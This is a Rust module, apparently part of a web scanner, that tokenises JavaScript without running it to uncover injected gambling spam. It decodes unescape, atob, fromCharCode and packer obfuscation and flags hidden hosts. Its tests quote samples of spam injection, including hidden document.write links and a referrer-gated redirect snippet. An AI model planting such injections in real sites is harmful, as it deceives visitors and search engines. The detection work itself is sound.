//! Scripts, read without running them. Injected spam arrives as
//! `document.write('<a href=…>百家乐</a>')`, often split into pieces joined
//! with `+`, escaped, percent-encoded for `unescape`, built with
//! `String.fromCharCode`, base64 for `atob`, or packed with Dean Edwards'
//! `eval(function(p,a,c,k,e,d)…)`; referrer-gated redirects hold the search
//! engines they wait for in a regex literal. We tokenise the script once
//! (linear; no regex runs over it) and read:
//!
//! - its string values: literals with escapes decoded, joined across `+`,
//!   and the results of decoding calls on literals (`unescape`,
//!   `decodeURIComponent`, `decodeURI`, `atob`, `String.fromCharCode`);
//! - the source text of its regex literals;
//! - code it runs from strings (`eval`, `Function`, `setTimeout`,
//!   `setInterval` of a known string, and the packer unpacked), which the
//!   caller reads again as a script, a bounded number of levels deep;
//! - its source with comments dropped, for field `code`.
//!
//! Decoding is bounded by a byte budget the caller keeps per page.

pub mod behaviour;

pub use behaviour::{Behaviour, Conditional, Encoded};

/// Decoded text per page at most (decoding calls, packer output, base64
/// literals): past it, values are left undecoded.
pub const MAX_DECODED: usize = 1 << 20;
/// A `code` block's size at most, in bytes; cut preferably after a line,
/// `;` or `}` in the block's last quarter.
pub const CODE_BLOCK: usize = 4096;
/// A packer's dictionary at most (real ones hold a few thousand words).
const MAX_PACKED_WORDS: usize = 1 << 16;

/// What a script yields.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Script {
    /// String values, in source order: a literal or several joined by `+`,
    /// the result of a decoding call, a base64 literal that decodes to a
    /// URL or markup. Those holding HTML are extracted again by the caller.
    pub strings: Vec<String>,
    /// Source text of regex literals (`\.(sogou|baidu|…)`): text, never HTML.
    pub patterns: Vec<String>,
    /// Code run from strings: read again as a script by the caller.
    pub evals: Vec<String>,
    /// Per entry of `evals`: the code was decoded (not the packer, a
    /// minifier), so the addresses in it are hidden from a reader of the
    /// source.
    pub evals_hidden: Vec<bool>,
    /// The source with comments dropped.
    pub code: String,
    /// What it reads of the visitor, compares and does
    /// (`script.conditional-redirect`); not yet with the code it runs from
    /// strings, which the caller reads and [`Behaviour::absorb`]s.
    pub behaviour: Behaviour,
}

/// The strings of a script (as [`read`] with a fresh budget).
pub fn strings(script: &str) -> Vec<String> {
    let mut budget = MAX_DECODED;
    read(script, &mut budget).strings
}

/// Read a script; decoded text is taken from `budget` (bytes left).
pub fn read(script: &str, budget: &mut usize) -> Script {
    let (toks, code) = lex(script);
    let mut out = Script {
        code,
        ..Script::default()
    };
    let mut p = Parser {
        toks: &toks,
        budget,
        depth: 0,
        decoded: false,
        partial: false,
    };
    let mut runs = Vec::new();
    let mut urls = Vec::new();
    let mut i = 0;
    while i < toks.len() {
        match &toks[i] {
            Tok::Regex(src) => {
                if !src.trim().is_empty() {
                    out.patterns.push(src.to_string());
                }
                i += 1;
            }
            Tok::Punct(b'}') => match p.packer(i) {
                Some((unpacked, end)) => {
                    out.evals.push(unpacked);
                    // The packer is a minifier many sites run on their own
                    // code: what it packs is read as written.
                    out.evals_hidden.push(false);
                    runs.push(i);
                    i = end;
                }
                None => i += 1,
            },
            Tok::Word(w) if RUNS_CODE.contains(w) && p.punct(i + 1, b'(') => {
                p.decoded = false;
                match p.concat(i + 2) {
                    Some((Some(code), end)) => {
                        out.evals.push(code);
                        out.evals_hidden.push(p.decoded);
                        runs.push(i);
                        i = end;
                    }
                    _ => i += 1,
                }
            }
            Tok::Str(_) | Tok::Word(_) if p.starts_value(i) => {
                // `c + "https://ir."`: joined to what came before.
                p.partial = i > 0 && p.punct(i - 1, b'+');
                match p.concat(i) {
                    Some((Some(value), end)) => {
                        // Of `"http://cdn." + domain + "/x.js"` the host is
                        // not known: no address.
                        let whole = !p.partial;
                        for text in p.emit(value) {
                            for u in addresses(&text).into_iter().filter(|_| whole) {
                                if urls.len() < behaviour::MAX_URLS {
                                    urls.push((i, u, false));
                                }
                            }
                            out.strings.push(text);
                        }
                        i = end;
                    }
                    _ => i += 1,
                }
            }
            _ => i += 1,
        }
    }
    out.behaviour = behaviour::read(&toks, &out.code);
    out.behaviour.runs = runs;
    if !urls.is_empty() {
        let source = readable(&out.code);
        for (_, u, hidden) in &mut urls {
            *hidden = !shows_host(&source, u);
        }
    }
    out.behaviour.urls = urls;
    out
}

/// Does the source show this address's host? Not when the script decodes
/// it (base64, `String.fromCharCode`, letters written as `\x68` escapes or
/// percent-encoded) or joins it from pieces (`"ev" + "il.com"`): what an
/// injected loader does so that neither a reader nor a word list sees the
/// domain. Statistics and badge snippets percent-encode only the markup
/// around their address (`%3Cscript src='http://dcs.conac.cn/…'`), and
/// templates escape only its punctuation (`meituan\x2Ecom`): shown. So the
/// host is looked for, as a whole name, in [`readable`] source.
fn shows_host(readable: &[u8], url: &str) -> bool {
    let rest = url.split_once("//").map_or(url, |(_, r)| r);
    let host = rest
        .split(['/', '?', '#', ':', '\\'])
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    if host.is_empty() {
        return true;
    }
    let part_of_name = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_');
    memchr::memmem::find_iter(readable, host.as_bytes()).any(|at| {
        let before = at.checked_sub(1).map(|k| readable[k]);
        let after = readable.get(at + host.len()).copied();
        !before.is_some_and(part_of_name) && !after.is_some_and(part_of_name)
    })
}

/// The source as a reader sees it, lower case: `\xHH`, `\uHHHH` and `%HH`
/// escapes of punctuation decoded (`\x2E` is a dot), escapes of letters,
/// digits and anything else turned into a NUL, which no host holds.
fn readable(source: &str) -> Vec<u8> {
    let b = source.as_bytes();
    let hex = |from: usize, n: usize| -> Option<u32> {
        let h = std::str::from_utf8(b.get(from..from + n)?).ok()?;
        u32::from_str_radix(h, 16).ok()
    };
    let shown = |code: u32| match u8::try_from(code) {
        Ok(c) if c.is_ascii_punctuation() => c,
        _ => 0,
    };
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        let (byte, len) = match b[i] {
            b'\\' if b.get(i + 1) == Some(&b'x') => match hex(i + 2, 2) {
                Some(c) => (shown(c), 4),
                None => (b'\\', 1),
            },
            b'\\' if b.get(i + 1) == Some(&b'u') => match hex(i + 2, 4) {
                Some(c) => (shown(c), 6),
                None => (b'\\', 1),
            },
            b'%' => match hex(i + 1, 2) {
                Some(c) => (shown(c), 3),
                None => (b'%', 1),
            },
            c => (c.to_ascii_lowercase(), 1),
        };
        out.push(byte);
        i += len;
    }
    out
}

/// Web addresses in a string value: each `http://`, `https://` (any case)
/// or a leading `//`, up to a space, quote or angle bracket. At most a few.
fn addresses(text: &str) -> Vec<String> {
    const MAX: usize = 4;
    let end_of = |rest: &str| {
        rest.find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`'))
            .unwrap_or(rest.len())
    };
    let mut out = Vec::new();
    // Every address holds `//`: most strings are let go here.
    if memchr::memmem::find(text.as_bytes(), b"//").is_none() {
        return out;
    }
    let trimmed = text.trim_start();
    if trimmed.starts_with("//") && !trimmed.starts_with("///") {
        out.push(trimmed[..end_of(trimmed)].to_string());
    }
    let lower = text.to_ascii_lowercase();
    let mut from = 0;
    while out.len() < MAX {
        let Some(at) = lower[from..].find("http") else {
            break;
        };
        let start = from + at;
        let rest = &lower[start..];
        if rest.starts_with("http://") || rest.starts_with("https://") {
            let len = end_of(&text[start..]);
            out.push(text[start..start + len].to_string());
            from = start + len.max(4);
        } else {
            from = start + 4;
        }
    }
    out
}

/// The source cut into `code` blocks of at most [`CODE_BLOCK`] bytes.
pub fn code_blocks(code: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = code.trim();
    while !rest.is_empty() {
        if rest.len() <= CODE_BLOCK {
            out.push(rest);
            break;
        }
        let mut cut = CODE_BLOCK;
        while !rest.is_char_boundary(cut) {
            cut -= 1;
        }
        let bytes = rest.as_bytes();
        if let Some(j) = bytes[cut - CODE_BLOCK / 4..cut]
            .iter()
            .rposition(|&b| matches!(b, b'\n' | b';' | b'}'))
        {
            cut = cut - CODE_BLOCK / 4 + j + 1;
        }
        let piece = rest[..cut].trim();
        if !piece.is_empty() {
            out.push(piece);
        }
        rest = rest[cut..].trim_start();
    }
    out
}

/// Functions that run a string as code.
const RUNS_CODE: &[&str] = &[
    "eval",
    "Function",
    "setTimeout",
    "setInterval",
    "execScript",
];
/// Functions that decode a string argument.
const DECODERS: &[&str] = &[
    "unescape",
    "escape",
    "decodeURIComponent",
    "decodeURI",
    "atob",
];
/// Keywords after which `/` starts a regex literal.
const BEFORE_REGEX: &[&str] = &[
    "return",
    "typeof",
    "instanceof",
    "in",
    "of",
    "new",
    "delete",
    "void",
    "throw",
    "case",
    "do",
    "else",
    "yield",
    "await",
];

#[derive(Debug, Clone, PartialEq)]
enum Tok<'a> {
    Str(String),
    /// The source between the slashes.
    Regex(&'a str),
    /// An identifier or keyword.
    Word(&'a str),
    Num(&'a str),
    Punct(u8),
}

/// Tokens, and the source with comments replaced by a space.
fn lex(src: &str) -> (Vec<Tok<'_>>, String) {
    let b = src.as_bytes();
    let mut toks: Vec<Tok> = Vec::new();
    let mut code = String::with_capacity(src.len());
    let mut copied = 0;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        match c {
            b'/' if b.get(i + 1) == Some(&b'/') => {
                code.push_str(&src[copied..i]);
                i = src[i..].find('\n').map_or(b.len(), |n| i + n);
                copied = i;
            }
            b'/' if b.get(i + 1) == Some(&b'*') => {
                code.push_str(&src[copied..i]);
                code.push(' ');
                i = src[i + 2..].find("*/").map_or(b.len(), |n| i + 2 + n + 2);
                copied = i;
            }
            b'/' if regex_allowed(toks.last()) => match regex_end(b, i) {
                Some((body_end, end)) => {
                    toks.push(Tok::Regex(&src[i + 1..body_end]));
                    i = end;
                }
                None => {
                    toks.push(Tok::Punct(c));
                    i += 1;
                }
            },
            b'\'' | b'"' | b'`' => {
                let (value, end) = literal(src, i);
                toks.push(Tok::Str(value));
                i = end;
            }
            b'0'..=b'9' => {
                let start = i;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'.' || b[i] == b'_')
                {
                    i += 1;
                }
                toks.push(Tok::Num(&src[start..i]));
            }
            c if is_word_byte(c) => {
                let start = i;
                while i < b.len() && (is_word_byte(b[i]) || b[i].is_ascii_digit()) {
                    i += 1;
                }
                toks.push(Tok::Word(&src[start..i]));
            }
            c if c.is_ascii_whitespace() || c.is_ascii_control() => i += 1,
            _ => {
                toks.push(Tok::Punct(c));
                i += 1;
            }
        }
    }
    code.push_str(&src[copied..]);
    (toks, code)
}

/// Identifier bytes: letters, `_`, `$`, and any non-ASCII byte (so a word
/// always ends on a character boundary).
fn is_word_byte(c: u8) -> bool {
    c.is_ascii_alphabetic() || c == b'_' || c == b'$' || c >= 0x80
}

/// After what does `/` start a regex rather than divide? At the start,
/// after a punctuator other than `)` and `]`, and after keywords such as
/// `return`; not after a name, number, string or regex.
fn regex_allowed(prev: Option<&Tok>) -> bool {
    match prev {
        None => true,
        Some(Tok::Punct(c)) => !matches!(c, b')' | b']'),
        Some(Tok::Word(w)) => BEFORE_REGEX.contains(w),
        Some(_) => false,
    }
}

/// The regex literal starting at `start` (its `/`): the end of its body
/// (the closing `/`) and the index after its flags. None when the line
/// ends first (then it was a division after all).
fn regex_end(b: &[u8], start: usize) -> Option<(usize, usize)> {
    let mut class = false;
    let mut i = start + 1;
    while i < b.len() {
        match b[i] {
            b'\\' => {
                if matches!(b.get(i + 1), None | Some(b'\n' | b'\r')) {
                    return None;
                }
                i += 2;
                continue;
            }
            b'\n' | b'\r' => return None,
            b'[' => class = true,
            b']' => class = false,
            b'/' if !class => {
                let body_end = i;
                i += 1;
                while i < b.len() && b[i].is_ascii_alphabetic() {
                    i += 1;
                }
                return Some((body_end, i));
            }
            _ => {}
        }
        i += 1;
    }
    None
}

struct Parser<'t, 'a> {
    toks: &'t [Tok<'a>],
    budget: &'t mut usize,
    /// Parentheses and calls being parsed, bounded (hostile nesting).
    depth: u32,
    /// The value being parsed came (in part) out of a decoding call or
    /// `String.fromCharCode`: text the source does not show.
    decoded: bool,
    /// The value being parsed has parts the code computes (a variable, a
    /// call): what is known of it is not the whole.
    partial: bool,
}

/// Parentheses and calls inside one string expression at most.
const MAX_DEPTH: u32 = 32;

impl<'a> Parser<'_, 'a> {
    fn punct(&self, i: usize, c: u8) -> bool {
        self.toks.get(i) == Some(&Tok::Punct(c))
    }

    fn word(&self, i: usize) -> Option<&'a str> {
        match self.toks.get(i) {
            Some(Tok::Word(w)) => Some(*w),
            _ => None,
        }
    }

    /// A name chain `a.b.c` from `i`: its last name and the index after it.
    fn chain(&self, i: usize) -> Option<(&'a str, usize)> {
        let mut last = self.word(i)?;
        let mut j = i + 1;
        while self.punct(j, b'.') {
            match self.word(j + 1) {
                Some(w) => {
                    last = w;
                    j += 2;
                }
                None => break,
            }
        }
        Some((last, j))
    }

    /// Does a string value start at `i`: a literal, a decoding call or
    /// `String.fromCharCode(`?
    fn starts_value(&self, i: usize) -> bool {
        match &self.toks[i] {
            Tok::Str(_) => true,
            Tok::Word(_) => self.chain(i).is_some_and(|(name, end)| {
                (DECODERS.contains(&name) || name == "fromCharCode") && self.punct(end, b'(')
            }),
            _ => false,
        }
    }

    /// Operands joined by `+` from `i`: the known parts joined (None when
    /// no part is known) and the index after the expression. None when no
    /// operand starts at `i`.
    fn concat(&mut self, i: usize) -> Option<(Option<String>, usize)> {
        if self.depth >= MAX_DEPTH {
            return None;
        }
        self.depth += 1;
        let found = self.concat_inner(i);
        self.depth -= 1;
        found
    }

    fn concat_inner(&mut self, i: usize) -> Option<(Option<String>, usize)> {
        let (mut value, mut end) = self.operand(i)?;
        self.partial |= value.is_none();
        while self.punct(end, b'+') {
            let Some((next, after)) = self.operand(end + 1) else {
                self.partial = true;
                break;
            };
            match next {
                Some(n) => value.get_or_insert_with(String::new).push_str(&n),
                None => self.partial = true,
            }
            end = after;
        }
        Some((value, end))
    }

    /// One operand: a literal, a number, a parenthesised concatenation, a
    /// decoding call, `String.fromCharCode(numbers)`, or a name chain
    /// (a variable: its value is unknown, but the literals around it are
    /// still one string).
    fn operand(&mut self, i: usize) -> Option<(Option<String>, usize)> {
        match self.toks.get(i)? {
            Tok::Str(s) => Some((Some(s.clone()), i + 1)),
            Tok::Num(n) => Some((
                n.bytes().all(|b| b.is_ascii_digit()).then(|| n.to_string()),
                i + 1,
            )),
            Tok::Punct(b'(') => {
                let (value, end) = self.concat(i + 1)?;
                self.punct(end, b')').then_some((value, end + 1))
            }
            Tok::Word(_) => {
                let (name, end) = self.chain(i)?;
                if !self.punct(end, b'(') {
                    return Some((None, end));
                }
                if name == "fromCharCode" {
                    let (units, after) = self.numbers(end + 1)?;
                    let text = String::from_utf16_lossy(&units);
                    self.decoded |= !units.is_empty();
                    return Some((self.take(text), after));
                }
                if DECODERS.contains(&name) {
                    let (arg, after) = self.concat(end + 1)?;
                    if !self.punct(after, b')') {
                        return None;
                    }
                    let decoded = arg.and_then(|a| decode_call(name, &a));
                    self.decoded |= decoded.is_some();
                    return Some((decoded.and_then(|d| self.take(d)), after + 1));
                }
                // A call: its result is unknown and ends the expression.
                Some((None, end))
            }
            _ => None,
        }
    }

    /// `n, n, …)` from `i`: the numbers as UTF-16 units and the index after
    /// the `)`. None unless every argument is a number literal.
    fn numbers(&self, mut i: usize) -> Option<(Vec<u16>, usize)> {
        let mut units = Vec::new();
        loop {
            match self.toks.get(i)? {
                Tok::Num(n) => units.push(number(n)? as u16),
                Tok::Punct(b')') if units.is_empty() => return Some((units, i + 1)),
                _ => return None,
            }
            i += 1;
            match self.toks.get(i)? {
                Tok::Punct(b',') => i += 1,
                Tok::Punct(b')') => return Some((units, i + 1)),
                _ => return None,
            }
        }
    }

    /// Decoded text taken from the budget (cut to what is left).
    fn take(&mut self, mut text: String) -> Option<String> {
        if *self.budget == 0 {
            return None;
        }
        if text.len() > *self.budget {
            let mut cut = *self.budget;
            while !text.is_char_boundary(cut) {
                cut -= 1;
            }
            text.truncate(cut);
        }
        *self.budget -= text.len();
        Some(text)
    }

    /// A string value found, as the values to keep: `%3C` payloads
    /// percent-decoded (the `unescape(variable)` form), and a base64
    /// literal that decodes to a URL or markup given decoded beside it
    /// (custom base64 loaders).
    fn emit(&mut self, value: String) -> Vec<String> {
        if value.trim().is_empty() {
            return Vec::new();
        }
        let value = if value.contains("%3C") || value.contains("%3c") {
            percent_utf8(&value)
        } else {
            value
        };
        let decoded = bare_base64(&value).and_then(|d| self.take(d));
        let mut out = vec![value];
        out.extend(decoded);
        out
    }

    /// The packer's call after the unpacking function's body:
    /// `}('payload', radix, count, 'w1|w2|…'.split('|')` at the `}` at `i`.
    /// Returns the unpacked code and the index after `.split(…)`.
    fn packer(&mut self, i: usize) -> Option<(String, usize)> {
        let [Tok::Punct(b'('), Tok::Str(payload), Tok::Punct(b','), Tok::Num(radix), Tok::Punct(b','), Tok::Num(count), Tok::Punct(b','), Tok::Str(words), Tok::Punct(b'.'), Tok::Word("split"), Tok::Punct(b'('), Tok::Str(sep), Tok::Punct(b')')] =
            self.toks.get(i + 1..i + 14)?
        else {
            return None;
        };
        let radix = number(radix)?;
        let count = number(count)? as usize;
        let words: Vec<&str> = words.split(sep.as_str()).take(MAX_PACKED_WORDS).collect();
        let unpacked = unpack(payload, radix, count, &words)?;
        Some((self.take(unpacked)?, i + 14))
    }
}

/// A JavaScript number literal as an integer (decimal, hex, octal, binary).
fn number(n: &str) -> Option<u32> {
    let lower = n.to_ascii_lowercase();
    let (digits, radix) = match lower.get(..2) {
        Some("0x") => (&lower[2..], 16),
        Some("0o") => (&lower[2..], 8),
        Some("0b") => (&lower[2..], 2),
        _ => (lower.as_str(), 10),
    };
    u32::from_str_radix(digits, radix).ok()
}

/// Dean Edwards' packer, decoded as its own unpacking function does: every
/// word (`\b\w+\b`) of the payload read as a number in base `radix` (digits
/// `0-9a-z`, then `A-Z` past 36) and replaced by that dictionary entry when
/// it is not empty. Radixes past 62 (the "high ASCII" mode) are not read.
fn unpack(payload: &str, radix: u32, count: usize, words: &[&str]) -> Option<String> {
    if !(2..=62).contains(&radix) {
        return None;
    }
    let count = count.min(words.len());
    let index = |word: &str| -> Option<usize> {
        if word.len() > 8 || (word.len() > 1 && word.starts_with('0')) {
            return None;
        }
        let mut n: u64 = 0;
        for c in word.bytes() {
            let d = match c {
                b'0'..=b'9' => c - b'0',
                b'a'..=b'z' => c - b'a' + 10,
                b'A'..=b'Z' => c - b'A' + 36,
                _ => return None,
            } as u64;
            // Up to base 36 the packer writes lower-case digits only.
            if d >= radix as u64 || (radix <= 36 && c.is_ascii_uppercase()) {
                return None;
            }
            n = n * radix as u64 + d;
        }
        usize::try_from(n).ok().filter(|&n| n < count)
    };
    let mut out = String::with_capacity(payload.len() * 2);
    let mut rest = payload;
    while !rest.is_empty() {
        let start = rest
            .find(|c: char| c.is_ascii_alphanumeric() || c == '_')
            .unwrap_or(rest.len());
        out.push_str(&rest[..start]);
        rest = &rest[start..];
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(rest.len());
        let word = &rest[..end];
        if word.is_empty() {
            break;
        }
        match index(word).map(|n| words[n]).filter(|w| !w.is_empty()) {
            Some(w) => out.push_str(w),
            None => out.push_str(word),
        }
        rest = &rest[end..];
    }
    Some(out)
}

/// What a decoding function returns for a known argument.
fn decode_call(name: &str, arg: &str) -> Option<String> {
    match name {
        "unescape" => Some(unescape(arg)),
        "decodeURIComponent" | "decodeURI" => Some(percent_utf8(arg)),
        "atob" => base64(arg).map(bytes_text),
        // `decodeURIComponent(escape(atob(…)))` reads UTF-8 out of base64;
        // we already did, so `escape` keeps the text as it is.
        "escape" => Some(arg.to_string()),
        _ => None,
    }
}

/// `unescape`: `%uXXXX` as UTF-16 units, `%XX` as bytes. Without `%u`,
/// the bytes are read as UTF-8 when they form it (a browser would show
/// Latin-1 mojibake, but the writer meant the text), else as Latin-1.
fn unescape(s: &str) -> String {
    if !s.contains("%u") && !s.contains("%U") {
        return bytes_text(percent_bytes(s));
    }
    let b = s.as_bytes();
    let hex = |from: usize, n: usize| {
        s.get(from..from + n)
            .filter(|h| h.bytes().all(|b| b.is_ascii_hexdigit()))
            .and_then(|h| u16::from_str_radix(h, 16).ok())
    };
    let mut units: Vec<u16> = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' {
            if matches!(b.get(i + 1), Some(b'u' | b'U')) {
                if let Some(u) = hex(i + 2, 4) {
                    units.push(u);
                    i += 6;
                    continue;
                }
            } else if let Some(u) = hex(i + 1, 2) {
                units.push(u);
                i += 3;
                continue;
            }
        }
        let c = s[i..].chars().next().expect("at a char boundary");
        let mut buf = [0u16; 2];
        units.extend_from_slice(c.encode_utf16(&mut buf));
        i += c.len_utf8();
    }
    String::from_utf16_lossy(&units)
}

fn percent_bytes(s: &str) -> Vec<u8> {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = |b: u8| (b as char).to_digit(16);
        if bytes[i] == b'%' && i + 2 < bytes.len() {
            if let (Some(h), Some(l)) = (hex(bytes[i + 1]), hex(bytes[i + 2])) {
                out.push((h * 16 + l) as u8);
                i += 3;
                continue;
            }
        }
        out.push(bytes[i]);
        i += 1;
    }
    out
}

/// Percent-decoded as UTF-8 (`decodeURIComponent`), bad sequences replaced.
fn percent_utf8(s: &str) -> String {
    String::from_utf8_lossy(&percent_bytes(s)).into_owned()
}

/// Bytes as text: UTF-8 when they are, else Latin-1 (a JS binary string).
fn bytes_text(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).unwrap_or_else(|e| e.into_bytes().iter().map(|&b| b as char).collect())
}

/// Standard base64; whitespace skipped, padding optional, a trailing
/// partial group ignored. None on any other character.
fn base64(s: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(s.len() * 3 / 4);
    let mut acc: u32 = 0;
    let mut bits = 0;
    for c in s.bytes() {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            b'=' => break,
            c if c.is_ascii_whitespace() => continue,
            _ => return None,
        };
        acc = (acc << 6) | v as u32;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    Some(out)
}

/// A literal that is nothing but base64 (16 characters or more) and
/// decodes to printable UTF-8 holding a URL or markup: what a loader's own
/// base64 function would turn it into (`aHR0cHM6Ly9…` is `https://…`).
/// Also read backwards: loaders reverse the string before decoding it so
/// that `aHR0c` does not show (`…c0RHan0zc` is `s='https://…'`).
fn bare_base64(s: &str) -> Option<String> {
    if s.len() < 16
        || !s
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'='))
    {
        return None;
    }
    let reversed: String = s.chars().rev().collect();
    base64_text(s).or_else(|| base64_text(reversed.trim_start_matches('=')))
}

/// Base64 that decodes to printable UTF-8 holding a URL or markup. A few
/// stray bytes at the end (padding characters a loader adds so the
/// length is not a multiple of four) are dropped.
fn base64_text(s: &str) -> Option<String> {
    let text = match String::from_utf8(base64(s)?) {
        Ok(t) => t,
        Err(e) => {
            let valid = e.utf8_error().valid_up_to();
            let mut bytes = e.into_bytes();
            if bytes.len() - valid > 3 {
                return None;
            }
            bytes.truncate(valid);
            String::from_utf8(bytes).ok()?
        }
    };
    let printable = text
        .chars()
        .all(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'));
    (printable && (text.contains("://") || (text.contains('<') && text.contains('>'))))
        .then_some(text)
}

/// Parse the literal starting at `start` (its quote); returns its value and
/// the index after the closing quote. Escapes: `\x`, `\u` (surrogate pairs
/// joined), `\u{…}`, legacy octal, and the single-character ones.
fn literal(script: &str, start: usize) -> (String, usize) {
    fn push(units: &mut Vec<u16>, c: char) {
        let mut buf = [0u16; 2];
        units.extend_from_slice(c.encode_utf16(&mut buf));
    }
    fn skip(chars: &mut std::iter::Peekable<std::str::CharIndices>, n: usize) {
        for _ in 0..n {
            chars.next();
        }
    }
    let quote = script.as_bytes()[start] as char;
    let body = &script[start + 1..];
    // Most literals have no escape: take them whole.
    if let Some(j) = body
        .bytes()
        .position(|b| b == quote as u8 || b == b'\\' || b == b'\n')
    {
        if body.as_bytes()[j] == quote as u8 {
            return (body[..j].to_string(), start + 1 + j + 1);
        }
    }
    let mut units: Vec<u16> = Vec::new();
    let mut chars = body.char_indices().peekable();
    // Up to `n` hex digits, only if there are exactly `n` of them.
    let hex = |from: usize, n: usize| {
        body.get(from..from + n)
            .filter(|h| h.bytes().all(|b| b.is_ascii_hexdigit()))
            .and_then(|h| u32::from_str_radix(h, 16).ok())
    };
    while let Some((off, c)) = chars.next() {
        match c {
            c if c == quote => return (String::from_utf16_lossy(&units), start + 1 + off + 1),
            '\n' if quote != '`' => return (String::from_utf16_lossy(&units), start + 1 + off),
            '\\' => {
                let Some((eo, e)) = chars.next() else { break };
                match e {
                    'n' => units.push(b'\n' as u16),
                    't' => units.push(b'\t' as u16),
                    'r' => units.push(b'\r' as u16),
                    'b' => units.push(8),
                    'f' => units.push(12),
                    'v' => units.push(11),
                    '\r' | '\n' | '\u{2028}' | '\u{2029}' => {
                        if e == '\r' && chars.peek().is_some_and(|&(_, c)| c == '\n') {
                            chars.next();
                        }
                    }
                    'x' => match hex(eo + 1, 2) {
                        Some(v) => {
                            units.push(v as u16);
                            skip(&mut chars, 2);
                        }
                        None => units.push(b'x' as u16),
                    },
                    'u' if body[eo + 1..].starts_with('{') => {
                        let inner = &body[eo + 2..];
                        match inner.find('}') {
                            Some(end)
                                if end <= 6
                                    && inner[..end].bytes().all(|b| b.is_ascii_hexdigit()) =>
                            {
                                if let Some(ch) = u32::from_str_radix(&inner[..end], 16)
                                    .ok()
                                    .and_then(char::from_u32)
                                {
                                    push(&mut units, ch);
                                }
                                skip(&mut chars, end + 2);
                            }
                            _ => units.push(b'u' as u16),
                        }
                    }
                    'u' => match hex(eo + 1, 4) {
                        Some(v) => {
                            units.push(v as u16);
                            skip(&mut chars, 4);
                        }
                        None => units.push(b'u' as u16),
                    },
                    '0'..='7' => {
                        // Legacy octal: up to three digits, at most 0o377.
                        let digits = body[eo..]
                            .bytes()
                            .take(3)
                            .take_while(|b| (b'0'..=b'7').contains(b))
                            .count();
                        let mut n = digits;
                        let mut v = u32::from_str_radix(&body[eo..eo + n], 8).unwrap_or(0);
                        if v > 0o377 {
                            n -= 1;
                            v = u32::from_str_radix(&body[eo..eo + n], 8).unwrap_or(0);
                        }
                        units.push(v as u16);
                        skip(&mut chars, n - 1);
                    }
                    other => push(&mut units, other),
                }
            }
            c => push(&mut units, c),
        }
    }
    (String::from_utf16_lossy(&units), script.len())
}

/// Where a page sends visitors by script (`location.href = '/cms/'`,
/// `window.location.replace("…")`, `top.location = …`), resolved against
/// the page URL: the first such assignment of a string literal, if any.
/// Used for start pages that hold nothing else (`/` → `/index.jsp` by
/// script is common on portals), which a browser would follow.
pub fn redirect_target(html: &str, base: &url::Url) -> Option<url::Url> {
    static ASSIGN: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(
            r#"(?i)\blocation(?:\s*\.\s*href)?\s*=\s*["']([^"'\s]{1,2000})["']|\blocation\s*\.\s*(?:replace|assign)\s*\(\s*["']([^"'\s]{1,2000})["']"#,
        )
        .expect("valid regex")
    });
    let caps = ASSIGN.captures(html)?;
    let target = caps.get(1).or_else(|| caps.get(2))?.as_str();
    crate::urls::resolve(base, target)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literals_joined_across_variables() {
        let s = strings("document.write('<div style=\"display:none\"><a>' + _x + '新葡京' + '</a></div>'); f(a + 'b');");
        assert_eq!(
            s,
            vec!["<div style=\"display:none\"><a>新葡京</a></div>", "b"]
        );
    }

    #[test]
    fn literals_with_escapes_and_concatenation() {
        let s = strings(
            r#"var a = "baidu.com"; // 'comment'
            document.write('<a href="http://x.com">' + "\u767e\u5bb6\u4e50" +
               '</a>'); /* "c2" */ var t = `tpl`; var e = 'it\'s';"#,
        );
        assert_eq!(
            s,
            vec![
                "baidu.com",
                "<a href=\"http://x.com\">百家乐</a>",
                "tpl",
                "it's"
            ]
        );
    }

    #[test]
    fn unescape_payloads_are_percent_decoded() {
        let s = strings("document.write(unescape('%3Ca%20href%3D%22x%22%3E%E7%99%BE%E5%AE%B6%E4%B9%90%3C/a%3E'))");
        assert_eq!(s, vec!["<a href=\"x\">百家乐</a>"]);
    }

    fn fresh(script: &str) -> Script {
        let mut budget = MAX_DECODED;
        read(script, &mut budget)
    }

    #[test]
    fn regex_literals_are_read_and_division_is_not_one() {
        // spam/009-referrer-opener-hijack-viewn.js of the evaluation set
        // (tune split), lines 5-9.
        let s = fresh(
            r#"var regexp=/\.(haosou|sogou|baidu|soso|google|youdao|yahoo|bing|118114|biso|gougou|ifeng|ivc|sooule|niuhu|biso|360)(\.[a-z0-9\-]+){1,2}\//ig;
var where =document.referrer;
if(regexp.test(where)){
var d = "http://tieba.baidu.com/";
var r = document.referrer;"#,
        );
        assert_eq!(
            s.patterns,
            vec![
                r"\.(haosou|sogou|baidu|soso|google|youdao|yahoo|bing|118114|biso|gougou|ifeng|ivc|sooule|niuhu|biso|360)(\.[a-z0-9\-]+){1,2}\/"
            ]
        );
        assert_eq!(s.strings, vec!["http://tieba.baidu.com/"]);
        let s = fresh("var w = a / 2, h = (b + 1) / c / d; x = arr[0] / 3; var t = '百家乐';");
        assert!(s.patterns.is_empty(), "{s:?}");
        assert_eq!(s.strings, vec!["百家乐"]);
